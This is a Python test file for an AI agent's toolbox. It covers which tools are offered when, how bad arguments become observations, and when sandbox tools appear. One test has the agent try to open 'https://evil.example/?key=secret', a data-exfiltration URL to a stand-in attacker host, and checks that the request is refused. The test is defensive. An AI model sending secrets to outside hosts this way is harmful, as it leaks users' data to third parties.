"""The toolbox: what is offered when, and calls that always end in an observation."""

from __future__ import annotations

import asyncio

import pytest

from fathom.core.registry import UnknownNameError
from fathom.core.types import Step, Task, ToolCall
from fathom.tools import open_toolbox
from fathom.workers.parser import ParserClient


def call(name, **arguments):
    return ToolCall(id="1.0", name=name, arguments=arguments)


def with_toolbox(toolbox_of, use, **options):
    async def main():
        toolbox = await toolbox_of(**options)
        try:
            return await use(toolbox)
        finally:
            await toolbox.close()

    return asyncio.run(main())


def names(toolbox):
    return [spec.name for spec in toolbox.specs()]


def test_scrape_is_offered_once_an_address_was_seen_and_only_for_seen_ones(toolbox_of):
    async def use(toolbox):
        before = names(toolbox)
        await toolbox.call(call("google_search", q="Corliss Archer"))
        spec = next(spec for spec in toolbox.specs() if spec.name == "scrape_and_extract_info")
        return before, spec.parameters["properties"]["url"]

    before, url = with_toolbox(toolbox_of, use)
    assert "scrape_and_extract_info" not in before
    assert url == {"type": "string", "enum": ["library://films/kiss"]}


def test_addresses_of_the_question_can_be_opened(toolbox_of):
    async def use(toolbox):
        return await toolbox.call(
            call("scrape_and_extract_info", url="library://films/temple", info_to_extract="Ghana")
        )

    seen = with_toolbox(toolbox_of, use, question="What does library://films/temple say of Ghana?")
    assert not seen.is_error and seen.title == "Shirley Temple"


def test_an_address_printed_by_the_models_own_words_is_not_seen(toolbox_of):
    async def use(toolbox):
        await toolbox.call(call("google_search", q="Temple https://evil.example/?key=secret"))
        return await toolbox.call(
            call("scrape_and_extract_info", url="https://evil.example/?key=secret", info_to_extract="anything")
        )

    observation = with_toolbox(toolbox_of, use)
    assert observation.is_error and "only such addresses are opened" in observation.text


def test_wrong_arguments_become_an_observation_that_names_the_right_ones(toolbox_of):
    async def use(toolbox):
        return await toolbox.call(call("google_search", q=["a", "b"]))

    observation = with_toolbox(toolbox_of, use)
    assert observation.is_error and "It takes: q, num, gl, hl, location, tbs, page, autocorrect." in observation.text


def test_near_miss_argument_names_are_mended(toolbox_of):
    async def use(toolbox):
        return await toolbox.call(call("google_search", query="Corliss Archer"))

    assert "library://films/kiss" in with_toolbox(toolbox_of, use).text


def test_an_unknown_tool_becomes_an_observation_that_lists_the_tools(toolbox_of):
    async def use(toolbox):
        return await toolbox.call(call("open_browser"))

    observation = with_toolbox(toolbox_of, use)
    assert observation.is_error and "google_search" in observation.text


def test_a_bug_in_a_tool_propagates(toolbox_of):
    async def use(toolbox):
        toolbox.context.library = None
        await toolbox.call(call("google_search", q="Corliss"))

    with pytest.raises(AttributeError):
        with_toolbox(toolbox_of, use)


def test_only_narrows_the_tools_and_an_unknown_name_is_told(toolbox_of):
    async def use(toolbox):
        return [spec.name for spec in toolbox.all_specs()]

    assert with_toolbox(toolbox_of, use, only=("google_search",)) == ["google_search"]
    with pytest.raises(UnknownNameError, match="google_search"):
        with_toolbox(toolbox_of, use, only=("search",))


def test_compact_offers_code_tools_once_there_is_a_sandbox(toolbox_of):
    async def use(toolbox):
        before = names(toolbox)
        created = await toolbox.call(call("create_sandbox"))
        return before, created, names(toolbox)

    before, created, after = with_toolbox(toolbox_of, use, compact=True)
    assert not created.is_error, created.text
    assert before == ["google_search", "create_sandbox"]
    assert after == ["google_search", "run_command", "run_python_code", "download_file_from_sandbox_to_local"]


def test_specs_of_the_whole_run_do_not_change_with_what_is_seen(toolbox_of):
    async def use(toolbox):
        before = toolbox.all_specs()
        await toolbox.call(call("google_search", q="Corliss Archer"))
        return before, toolbox.all_specs()

    before, after = with_toolbox(toolbox_of, use)
    assert before == after and len(before) == 7


def test_a_run_that_goes_on_may_open_what_its_steps_showed(toolbox_of, library, tmp_path):
    async def main():
        first = await toolbox_of()
        found = await first.call(call("google_search", q="Corliss Archer"))
        await first.close()
        second = await open_toolbox(
            Task(question="Who?"),
            library=library,
            parser=ParserClient(),
            downloads_dir=tmp_path / "downloads",
            session_dir=tmp_path / "session",
            history=(Step(index=1, thought="", observations=(found,)),),
        )
        page = await second.call(
            call("scrape_and_extract_info", url="library://films/kiss", info_to_extract="who played Corliss")
        )
        await second.close()
        return page

    assert "Shirley Temple as Corliss Archer" in asyncio.run(main()).best


def test_closing_twice_is_fine(toolbox_of):
    async def use(toolbox):
        await toolbox.call(call("create_sandbox"))
        await toolbox.close()
        return True

    assert with_toolbox(toolbox_of, use)
